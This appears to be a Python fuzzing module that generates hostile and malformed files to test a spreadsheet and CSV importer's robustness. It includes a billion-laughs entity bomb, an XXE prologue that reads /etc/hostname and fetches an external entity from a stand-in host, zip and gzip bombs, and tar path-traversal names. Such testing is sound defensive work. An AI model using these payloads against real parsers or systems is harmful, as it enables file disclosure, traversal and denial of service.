"""Hostile and merely awkward files of every kind, each by its seed: small, quickly made, costly to read carelessly."""

import gzip
import io
import random
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping

from bench.mutations import corpus, mutated
from tests.old_workbooks import xls
from tests.open_documents import fods

Maker = Callable[[random.Random], bytes]

HEADER = ["Order ID", "Date", "Customer", "Amount"]
SPREADSHEET = "urn:schemas-microsoft-com:office:spreadsheet"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
LAUGHS = '<!DOCTYPE w [<!ENTITY a "haha">{}]>'.format(
    "".join(f'<!ENTITY {name} "{f"&{before};" * 20}">' for before, name in zip("abcdefg", "bcdefgh", strict=True))
)
FETCHED = '<!DOCTYPE w [<!ENTITY h SYSTEM "file:///etc/hostname"><!ENTITY % r SYSTEM "http://192.0.2.1/x"> %r;]>'


def hostile(seed: int) -> tuple[str, bytes]:
    """The kind and the bytes of the file of a seed: kinds take turns, and the seed draws the details."""
    kind = list(KINDS)[seed % len(KINDS)]
    return kind, KINDS[kind](random.Random(seed))


def lines(draw: random.Random, count: int) -> list[list[str]]:
    """Rows of orders in texts."""
    return [
        [str(1000 + n), f"2024-{n % 12 + 1:02}-{n % 28 + 1:02}", f"c{draw.randrange(40)}@example.com", f"{n % 90}.50"]
        for n in range(count)
    ]


def text(rows: list[list[str]], *, separator: str = ",", end: str = "\n") -> str:
    """Rows as delimited text."""
    return end.join(separator.join(row) for row in rows) + end


def orders(draw: random.Random, count: int = 60) -> list[list[str]]:
    """A header and rows of orders."""
    return [HEADER, *lines(draw, count)]


def zipped(members: Mapping[str, bytes]) -> bytes:
    """Some files in a zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def inline(reference: str, value: str) -> str:
    """A cell of a sheet's XML."""
    return f'<c r="{reference}" t="inlineStr"><is><t>{value}</t></is></c>'


def sheet_rows(rows: list[list[str]]) -> str:
    """Rows of a sheet's XML."""
    return "".join(
        f'<row r="{n}">{"".join(inline(f"{chr(65 + i)}{n}", value) for i, value in enumerate(row))}</row>'
        for n, row in enumerate(rows, start=1)
    )


def xlsx(*sheets: str, strings: str | None = None, prologue: str = "") -> bytes:
    """A workbook whose sheets have these rows in XML."""
    names = range(1, len(sheets) + 1)
    tags = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in names)
    links = "".join(
        f'<Relationship Id="rId{n}" Type="{RELATIONS}/worksheet" Target="worksheets/s{n}.xml"/>' for n in names
    )
    links += f'<Relationship Id="rIdS" Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>' if strings else ""
    top = f'<Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/>'
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}">{top}</Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>{tags}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{links}</Relationships>',
    }
    for n, rows in zip(names, sheets, strict=True):
        data = rows if rows.startswith("<dimension") or "<sheetData" in rows else f"<sheetData>{rows}</sheetData>"
        parts[f"xl/worksheets/s{n}.xml"] = f'{prologue}<worksheet xmlns="{MAIN}">{data}</worksheet>'
    if strings:
        parts["xl/sharedStrings.xml"] = f'{prologue}<sst xmlns="{MAIN}">{strings}</sst>'
    return zipped({name: part.encode() for name, part in parts.items()})


def spreadsheetml(rows: str, *, prologue: str = "") -> bytes:
    """A workbook of Excel 2003 in XML with these rows."""
    page = f'<Worksheet ss:Name="Orders"><Table>{rows}</Table></Worksheet>'
    start = f'<Workbook xmlns="{SPREADSHEET}" xmlns:ss="{SPREADSHEET}">'
    return f'<?xml version="1.0"?>{prologue}{start}{page}</Workbook>'.encode()


def xml_rows(rows: list[list[str]], *, row: str = "", cell: str = "") -> str:
    """Rows of such a workbook, with further attributes."""
    data = '<Cell {}><Data ss:Type="String">{}</Data></Cell>'
    return "".join(f"<Row {row}>{''.join(data.format(cell, value) for value in each)}</Row>" for each in rows)


def page(rows: list[list[str]], *, cell: str = "") -> str:
    """A table in HTML, with further attributes of each cell."""
    return "".join(f"<tr>{''.join(f'<td {cell}>{value}</td>' for value in row)}</tr>" for row in rows)


def open_document(rows: str) -> bytes:
    """An .ods with these rows."""
    name = "urn:oasis:names:tc:opendocument:xmlns:{}:1.0".format
    spaces = " ".join(f'xmlns:{short}="{name(short)}"' for short in ("office", "table", "text"))
    body = f'<office:spreadsheet><table:table table:name="Orders">{rows}</table:table></office:spreadsheet>'
    content = f"<office:document-content {spaces}><office:body>{body}</office:body></office:document-content>"
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return zipped({"mimetype": kind.encode(), "content.xml": content.encode()})


def ods_rows(rows: list[list[str]], *, row: str = "", cell: str = "") -> str:
    """Rows of an .ods, with further attributes."""
    data = '<table:table-cell office:value-type="string" {}><text:p>{}</text:p></table:table-cell>'
    return "".join(
        f"<table:table-row {row}>{''.join(data.format(cell, value) for value in each)}</table:table-row>"
        for each in rows
    )


# Markup


def comments(draw: random.Random) -> bytes:
    one = draw.choice(("<!-- a -->", "<!---->", "<!-- <!-- -->", "<!-- -->\n  "))
    return (
        one * draw.choice((30, 6000)) + draw.choice(("<table", "x", f"<table>{page(orders(draw))}</table>"))
    ).encode()


def nested_tables(draw: random.Random) -> bytes:
    depth = draw.choice((5, 200, 3000))
    inner = page(orders(draw, 2000))
    return ("<table><tr><td>" * depth + f"<table>{inner}</table>" + "</td></tr></table>" * depth).encode()


def deep_elements(draw: random.Random) -> bytes:
    tag = draw.choice(("div", "b", "td", "table", "tr", "font"))
    return f"<html>{f'<{tag}>' * draw.choice((500, 100_000))}<table>{page(orders(draw))}".encode()


def huge_spans(draw: random.Random) -> bytes:
    cell = draw.choice(
        ("colspan=16384", "rowspan=99999 colspan=9999", "rowspan=1000000", "colspan=99999999999999999999")
    )
    return f"<table>{page(orders(draw, draw.choice((3, 60, 8000))), cell=cell)}</table>".encode()


def entities(draw: random.Random) -> bytes:
    prologue, entity = draw.choice(((LAUGHS, "&h;"), (FETCHED, "&h;"), (LAUGHS, "&nothing;")))
    rows = [*orders(draw), ["1", "2024-01-01", entity, "5"]]
    return draw.choice((spreadsheetml(xml_rows(rows), prologue=prologue), xlsx(sheet_rows(rows), prologue=prologue)))


def large_indexes(draw: random.Random) -> bytes:
    step = draw.choice((1000, 900_000, 1_048_575, 10**9, 10**17))
    if draw.random() < 0.5:
        rows = "".join(
            xml_rows([row], row=f'ss:Index="{n * step}"') for n, row in enumerate(orders(draw, 300), start=1)
        )
    else:
        rows = xml_rows(orders(draw, 3000), cell=f'ss:Index="{min(step, 16_384)}"')
    return spreadsheetml(rows)


def large_merges(draw: random.Random) -> bytes:
    cell = draw.choice(
        ('ss:MergeDown="1000000"', 'ss:MergeAcross="16383"', 'ss:MergeDown="70000" ss:MergeAcross="9999"')
    )
    return spreadsheetml(xml_rows(orders(draw, 8000), cell=cell))


def corner_of_xml(draw: random.Random) -> bytes:
    stray = '<Row ss:Index="{}"><Cell ss:Index="{}"><Data ss:Type="String">x</Data></Cell></Row>'
    place = draw.choice(((1_048_576, 1), (70, 16_384), (1_048_576, 16_384)))
    return spreadsheetml(xml_rows(orders(draw)) + stray.format(*place))


# Workbooks


def corner_cells(draw: random.Random) -> bytes:
    strays = draw.choice((["XFD5"], ["A1048576"], ["XFD1048576"], ["XFD1", "A1048576"]))
    extra = "".join(f'<row r="{cell.lstrip("XFDA")}">{inline(cell, "x")}</row>' for cell in strays)
    return xlsx(sheet_rows(orders(draw)) + extra)


def absurd_dimension(draw: random.Random) -> bytes:
    reference = draw.choice(("A1:XFD1048576", "A1:ZZZ9999999", "A1", "B9:A1", "", "A0:A0"))
    rows = sheet_rows(orders(draw))
    merged = f'<mergeCells><mergeCell ref="{reference}"/></mergeCells>' * draw.choice((1, 5000))
    return xlsx(f'<dimension ref="{reference}"/><sheetData>{rows}</sheetData>{merged}')


def wrong_references(draw: random.Random) -> bytes:
    reference = draw.choice(("", "A", "1", "A0", "ZZZZ1", "A99999999999999999999", "$A$1", "a1"))
    return xlsx(sheet_rows(orders(draw)) + f'<row r="{reference}">{inline(reference, "x") * 50}</row>')


def shared_strings(draw: random.Random) -> bytes:
    length, count = draw.choice(((30_000, 20_000), (3_000_000, 500), (10, 60_000)))
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>{draw.choice((0, 0, 0, 9**9))}</v></c></row>' for n in range(1, count)
    )
    return xlsx(cells, strings=f"<si><t>{'x' * length}</t></si>")


def many_sheets(draw: random.Random) -> bytes:
    return xlsx(*[sheet_rows(orders(draw, 1))] * draw.choice((50, 400, 2000)))


def open_tags(draw: random.Random) -> bytes:
    tag = draw.choice(('<c r="A1">', '<c r="A1" ', '<c r="A1"><f>', "<c ", "<mergeCell ", '<c r="A1"><v>', "<a" * 9))
    return xlsx(f"<sheetData>{sheet_rows(orders(draw))}</sheetData>{tag * draw.choice((5000, 200_000))}")


def formulas(draw: random.Random) -> bytes:
    formula = draw.choice(
        ("<f>SUM(A1:XFD1048576)</f>", "<f>A1</f><v></v>", '<f t="shared" si="0"/>', f"<f>{'(' * 9000}</f>")
    )
    return xlsx("".join(f'<row r="{n}"><c r="A{n}">{formula}</c></row>' for n in range(1, 200)))


def open_document_repeats(draw: random.Random) -> bytes:
    row = draw.choice(("", 'table:number-rows-repeated="1048576"', 'table:number-rows-repeated="30000"'))
    cell = draw.choice(("", 'table:number-columns-repeated="16384"', 'table:number-columns-repeated="99999999999"'))
    return open_document(ods_rows(orders(draw, 20), row=row, cell=cell))


def open_document_corner(draw: random.Random) -> bytes:
    gap = '<table:table-cell table:number-columns-repeated="16383"/>' if draw.random() < 0.5 else ""
    below = '<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
    stray = f"<table:table-row>{gap}<table:table-cell><text:p>x</text:p></table:table-cell></table:table-row>"
    return open_document(ods_rows(orders(draw)) + draw.choice(("", below)) + stray)


def binary_workbook(draw: random.Random) -> bytes:
    part = draw.choice((bytes(4_000_000), draw.randbytes(20_000), b"\x81\x01\x00" * 200_000))
    return zipped({"xl/workbook.bin": part, "xl/worksheets/sheet1.bin": part, "xl/_rels/workbook.bin.rels": b"<a/>"})


def looping_workbook(draw: random.Random) -> bytes:
    """A workbook of 1997 whose chains of sectors, or whose directory, go on where they began."""
    content = bytearray(xls({"Orders": [list(row) for row in orders(draw, 300)]}))
    (table,) = struct.unpack_from("<I", content, 0x4C)
    (directory,) = struct.unpack_from("<I", content, 0x30)
    place = 512 * (table + 1) + 4 * draw.choice((directory, 0, 1, 2, 3))
    struct.pack_into("<I", content, place, draw.choice((directory, 0, 1, 0xFFFFFFFA, 0x7FFFFFFF)))
    return bytes(content)


def deep_directory(draw: random.Random) -> bytes:
    """A workbook of 1997 with nonsense in the entries of its directory and the header's counts."""
    content = bytearray(xls({"Orders": [list(row) for row in orders(draw, 30)]}))
    (directory,) = struct.unpack_from("<I", content, 0x30)
    for _ in range(draw.choice((1, 3, 10))):
        place = draw.choice((512 * (directory + 1) + 4 * draw.randrange(96), 0x2C + 4 * draw.randrange(10)))
        struct.pack_into("<I", content, place, draw.choice((0, 1, 2**31, 2**32 - 1, draw.randrange(2**32))))
    return bytes(content)


# Containers


def bombs(draw: random.Random) -> bytes:
    zeros = gzip.compress(bytes(20_000_000), 1)
    shape = draw.choice(("gz", "gz in gz", "zip", "many", "tar.gz", "xlsx", "ods", "xlsb"))
    if shape == "gz":
        return gzip.compress(b",\n" * 5_000_000, 1) * draw.choice((1, 30))  # members of one stream, unpacked one by one
    if shape in ("gz in gz", "zip"):
        return gzip.compress(zeros * 30) if shape == "gz in gz" else zipped({"a.csv": zeros, "b.csv.gz": zeros * 9})
    if shape == "many":
        return zipped({f"{n}.csv": text(orders(draw, 3)).encode() for n in range(draw.choice((99, 3000)))})
    if shape == "tar.gz":
        return tarred(draw)
    part = {"xlsx": "xl/workbook.xml", "ods": "content.xml", "xlsb": "xl/workbook.bin"}[shape]
    blanks = b" " * 15_000_000
    members = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", part: blanks}
    return zipped(members | {f"xl/worksheets/sheet{n}.xml": blanks for n in range(1 if shape == "ods" else 2)})


def tarred(draw: random.Random) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=1) as archive:
        for name in draw.choice((["orders.csv"], ["../../orders.csv", "/etc/x.csv"], ["a.csv"] * 50)):
            data = text(orders(draw)).encode()
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def nested_archives(draw: random.Random) -> bytes:
    data = text(orders(draw)).encode()
    for _ in range(draw.choice((2, 4, 50))):
        data = draw.choice((gzip.compress, lambda inside: zipped({"orders": inside})))(data)
    return data


def lying_zip(draw: random.Random) -> bytes:
    """A zip whose directory gives wrong sizes, checksums or offsets."""
    content = bytearray(zipped({"orders.csv": text(orders(draw)).encode()}))
    entry = content.find(b"PK\x01\x02")
    place = entry + draw.choice((16, 20, 24, 28, 30, 32, 42, 8, 10))
    struct.pack_into("<I", content, place, draw.choice((0, 1, 2**31, 2**32 - 1, draw.randrange(2**20))))
    return bytes(content)


# Text


def toggling_quotes(draw: random.Random) -> bytes:
    line = draw.choice(('"a","', '"a"b', '"', 'x,"', '"a""b', '"",""a', "'a','", '"a";"'))
    return ("a,b\n" + f"{line}\n" * draw.choice((300, 20_000, 300_000))).encode()


def inch_marks(draw: random.Random) -> bytes:
    columns, count = draw.choice(((80, 20), (300, 3), (395, 100), (8, 20_000)))
    cell = draw.choice(('"6" x 4", wood"', '"5" pipe"', '""a", b"'))
    row = ",".join(cell if n % draw.choice((2, 5)) == 0 else str(n) for n in range(columns))
    return text([[f"c{n}" for n in range(columns)], *[[row]] * count]).encode()


def only(draw: random.Random) -> bytes:
    signs = draw.choice((",", '"', ",\n", '"\n', '""', " ", "\t", ";,|", "'", "\r", "\n\n", "-", "\\", '\\"', ",'"))
    return (draw.choice(("", "a,b\n", "x")) + signs * draw.choice((1000, 1_000_000)) + draw.choice(("", "x"))).encode()


def wide_tables(draw: random.Random) -> bytes:
    columns = draw.choice((500, 5000, 20_000, 60_000))
    name = draw.choice(("Sum", "Date", "c{}", "", "Column A"))
    header = [*HEADER, *(name.format(n) for n in range(columns))]
    rows = [[*row, *(draw.choice(("", "1.5", "2024-01-05")),) * columns] for row in lines(draw, 4)]
    return text([header, *rows], separator=draw.choice((",", ";", "\t"))).encode()


def stray_cell_of_text(draw: random.Random) -> bytes:
    rows = orders(draw, draw.choice((50, 50_000)))
    rows[-1] = [*rows[-1], *[""] * draw.choice((3000, 16_000, 400_000)), draw.choice(("x", ""))]
    return text(rows).encode()


def zeros_in_rows(draw: random.Random) -> bytes:
    place = draw.randrange(4)
    rows = [[f"\0{cell}" if n == place else cell for n, cell in enumerate(row)] for row in orders(draw, 500)]
    return text(rows, end=draw.choice(("\n", "\0\n", "\r\n", "\n\0"))).encode(
        draw.choice(("utf-8", "cp1251", "utf-16-le"))
    )


def broken_encoding(draw: random.Random) -> bytes:
    data = (
        text(orders(draw))
        .replace("c1", "Анна")
        .encode(draw.choice(("utf-8", "utf-16", "utf-16-be", "cp1251", "utf-32")))
    )
    junk = draw.choice(
        (b"\x00\xd8", b"\xd8\x00", b"\xff", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xc0\x80", b"\x80")
    )
    place = draw.randrange(len(data))
    return data[:place] + junk * draw.choice((1, 5000)) + data[place:]


def enormous_cells(draw: random.Random) -> bytes:
    unit = draw.choice(("x", " ", "0", "1 ", "a@", "1.", "x1", "ъ", "(", "-", "<", "total ", "\u00a0", "é", "12:"))
    rows = orders(draw)
    row = draw.randrange(len(rows))
    rows[row] = list(rows[row])
    rows[row][draw.randrange(4)] = unit * (draw.choice((32_000, 2_000_000)) // len(unit.encode()))
    return text(rows).encode()


def long_cells(draw: random.Random) -> bytes:
    unit = draw.choice(("x", "0", "1 ", "a@", "ext ", "total ", "c/o ", "1-", "a.b@", "ș", "+7", "order "))
    rows = [[*row] for row in orders(draw, 300)]
    for n, row in enumerate(rows[1:]):
        row[draw.randrange(4)] = unit * (n + draw.choice((10, 4000)))
    return text(rows).encode()


def huge_numbers(draw: random.Random) -> bytes:
    numbers = (
        "1e400",
        "-1e400",
        "9" * 10_000,
        "0." + "0" * 9000 + "1",
        "1e-400",
        "nan",
        "inf",
        "1,2,3,4",
        "٣٫٥",
        "--5",
        "1e9999999",
    )
    rows = [[*row] for row in orders(draw, 400)]
    for row in rows[1:]:
        row[draw.randrange(4)] = draw.choice(numbers)
    return text(rows, separator=";").encode()


def far_dates(draw: random.Random) -> bytes:
    dates = ("0001-01-01", "9999-12-31", "1e10", "99999999999999", "2958466", "-1", "31.02.2024", "24:61", "2024-13-45",
             "1600-02-29", "/Date(99999999999999)/", "292277026596-12-04")  # fmt: skip
    rows = [[*row] for row in orders(draw, 400)]
    for row in rows[1:]:
        row[1] = draw.choice(dates)
    return text(rows).encode() if draw.random() < 0.5 else xlsx(sheet_rows(rows))


def short_rows(draw: random.Random) -> bytes:
    row = draw.choice(("\n", "1\n", "a,b\n", ",\n", "1,2\n", "\r", "1;\n", "a\tb\r\n"))
    return (draw.choice(("", "a,b\n")) + row * (2_000_000 // len(row))).encode()


def mixed_line_ends(draw: random.Random) -> bytes:
    ends = ("\n", "\r", "\r\n", "\n\r", "\u2028", "\x0b", "\x0c", "\x85", "\x1e", "\n\n\n")
    return "".join(",".join(row) + draw.choice(ends) for row in orders(draw, 2000)).encode()


def long_headers(draw: random.Random) -> bytes:
    word = draw.choice(("total ", "tax incl ", "customer order date ", "Клиент ", "a", "A1 ", "_", "("))
    names = [f"{word * draw.choice((5, 500, 20_000))}{n}" for n in range(draw.choice((4, 12)))]
    return text([names, *[[str(n)] * len(names) for n in range(50)]]).encode()


def many_different(draw: random.Random) -> bytes:
    rows = [[draw.randbytes(8).hex(), f"{draw.randrange(2000, 2030)}-01-05", draw.randbytes(12).hex() + "@x.yz", "1"]
            for _ in range(20_000)]  # fmt: skip
    return text([HEADER, *rows]).encode()


# JSON, Parquet, tar, flat OpenDocument


def deep_json(draw: random.Random) -> bytes:
    depth = draw.choice((100, 5000, 200_000))
    return draw.choice((b"[" * depth, b'{"a":' * depth, b'[{"a":' * depth, b'[{"a": 1}, ' + b"[" * depth))


def wide_json(draw: random.Random) -> bytes:
    many = draw.choice((300, 3000))
    records = ",".join(f'{{"field {n}": {n}, "Date": "2024-01-05"}}' for n in range(many))
    return f'{{"orders": [{records}]}}'.encode()


def long_json(draw: random.Random) -> bytes:
    value = draw.choice(("9" * 1_000_000, '"' + "\\ud800" * 200_000 + '"', "1e999", '"' + "a" * 1_000_000 + '"'))
    return f'[{{"Date": {value}, "Customer": "a@b.c", "Amount": {value}}}]'.encode()


def lying_tar(draw: random.Random) -> bytes:
    entry = tarfile.TarInfo(draw.choice(("orders.csv", "a/" * 40, "x" * 99)))
    entry.size = draw.choice((1 << 20, 1 << 33, 1 << 60))
    header = entry.tobuf(tarfile.GNU_FORMAT)
    data = header * draw.choice((1, 50, 5000)) + text(orders(draw)).encode()
    return gzip.compress(data, 1) if draw.random() < 0.5 else data


def flat_repeats(draw: random.Random) -> bytes:
    repeats = draw.choice(("9999999", "1048576", "16384", "0", "-1", "1e9"))
    cell = f'<table:table-cell office:currency="EUR" table:number-columns-repeated="{repeats}"'
    row = f'<table:table-row table:visibility="filter" table:number-rows-repeated="{repeats}">'
    filled = f'{row}{cell} office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    empty = f"{row}{cell}/></table:table-row>" * draw.choice((1, 200))
    data = fods({"Orders": [HEADER, ["1", "2024-01-05", "a@b.c", "5"]]})
    return data.replace(b"</table:table>", (empty + draw.choice(("", filled))).encode() + b"</table:table>")


def open_comments(draw: random.Random) -> bytes:
    data = fods({"Orders": [HEADER, ["1", "2024-01-05", "a@b.c", "5"]]})
    filler = draw.choice((b"<!--", b"<!-- ", b"> ", b"  \n", b"<table:table-cell ", b'"', b"#REF!"))
    return data.replace(b"<table:table-row>", filler * 100_000 + b"<table:table-row>", 1)


# Anything


def truncated(draw: random.Random) -> bytes:
    data = draw.choice(corpus())
    return data[: draw.randrange(len(data))]


def only_the_beginning_right(draw: random.Random) -> bytes:
    packed = (b"PK\x03\x04", b"PK\x05\x06", b"\x1f\x8b\x08", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x78\x9c")
    plain = (b"<html>", b"\xff\xfe", b"\xef\xbb\xbf", b"sep=;\n", b"<?xml version='1.0'?>", b"%PDF", b"")
    magic = draw.choice((*packed, *plain))
    return magic + draw.randbytes(draw.choice((0, 20, 5000, 300_000)))


def mutations(draw: random.Random) -> bytes:
    return mutated(draw.randrange(10**6))


KINDS: dict[str, Maker] = {
    made.__name__: made
    for made in (
        *(comments, nested_tables, deep_elements, huge_spans, entities, large_indexes, large_merges, corner_of_xml),
        *(corner_cells, absurd_dimension, wrong_references, shared_strings, many_sheets, open_tags, formulas),
        *(open_document_repeats, open_document_corner, binary_workbook, looping_workbook, deep_directory),
        *(bombs, nested_archives, lying_zip, toggling_quotes, inch_marks, only, wide_tables, stray_cell_of_text),
        *(zeros_in_rows, broken_encoding, enormous_cells, long_cells, huge_numbers, far_dates, short_rows),
        *(deep_json, wide_json, long_json, lying_tar, flat_repeats, open_comments),
        *(mixed_line_ends, long_headers, many_different, truncated, only_the_beginning_right, mutations),
    )
}
